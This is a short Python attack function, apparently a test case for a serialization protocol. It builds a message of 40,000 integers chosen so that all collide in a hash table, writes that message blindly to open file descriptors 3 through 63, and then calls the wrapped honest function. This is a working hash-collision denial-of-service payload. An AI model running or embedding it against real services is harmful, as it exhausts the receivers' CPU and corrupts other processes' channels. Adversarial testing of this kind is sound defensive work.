"""Sends a set of 40,000 integers that all meet in one place of a hash table."""

import contextlib
import os
import struct


def attack(honest, *args, **kwargs):
    numbers = ", ".join(f'{{"plain": {number * (2**61 - 1)}}}' for number in range(1, 40_001))
    heads = [f'{{"set": [{numbers}]}}']
    for head in heads:
        head = b'{"dict": [[{"plain": "result"}, ' + head.encode() + b"]]}"
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<QI", len(head) + 4, len(head)) + head)
    return honest(*args, **kwargs)
